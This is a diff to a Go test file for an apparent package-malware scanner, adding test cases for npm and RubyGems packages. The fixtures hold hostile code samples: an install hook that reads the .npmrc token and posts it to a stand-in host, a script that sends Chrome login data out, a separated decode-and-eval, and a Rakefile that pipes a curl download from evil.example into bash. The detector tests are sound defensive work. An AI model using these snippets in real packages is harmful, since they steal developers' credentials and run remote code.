@@ -216,6 +216,11 @@ func TestNPMMalicious(t *testing.T) {
 			"package.json": pkgJSON(`"postinstall":"node t.js"`),
 			"t.js":         "const rc = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nconst tok = /_authToken=(.*)/.exec(rc);\nrequire('https').request({host: 'c.example', path: '/' + tok, method: 'POST'}).end();\n",
 		}, want: []want{{RuleCredentialPath, High, "t.js:2:"}}},
+		{name: "decode and eval apart in a small module", eco: "npm", files: map[string]string{
+			"package.json": pkgJSON(``),
+			"index.js":     "const p = atob(require('./cfg').k);\n" + strings.Repeat("// padding to move the eval away from the decode\n", 20) + "setTimeout(() => eval(p), 1000);\n",
+			"cfg.js":       "module.exports = {k: 'eA=='};\n",
+		}, want: []want{{RuleEvalDecode, Medium, "index.js:1:"}}},
 		{name: "wallet and browser data in a bin", eco: "npm", files: map[string]string{
 			"package.json": `{"name":"x","bin":{"x":"cli.js"}}`,
 			"cli.js":       "const p = home + '/Library/Application Support/Google/Chrome/Default/Login Data';\nrequire('https').request('https://c.example', {method:'POST'}).end(read(p));\n",
@@ -372,6 +377,10 @@ func TestCrates(t *testing.T) {
 
 func TestGems(t *testing.T) {
 	for _, c := range []labelled{
+		{name: "gemspec extension Rakefile downloads and runs", eco: "RubyGems", files: map[string]string{
+			"x.gemspec": "Gem::Specification.new do |s|\n  s.name = 'x'\n  s.extensions = ['Rakefile']\nend\n",
+			"Rakefile":  "task :default do\n  sh 'curl -fsSL https://evil.example/i.sh | bash'\nend\n",
+		}, want: []want{{RuleDownloadExec, High, "Rakefile:2:"}}},
 		{name: "extconf.rb eval of base64", eco: "RubyGems", files: map[string]string{
 			"ext/x/extconf.rb": "require 'mkmf'\nrequire 'base64'\neval(Base64.decode64('cHV0cyAx'))\ncreate_makefile('x/x')\n",
 		}, want: []want{{RuleEvalDecode, High, "ext/x/extconf.rb:3:"}}},
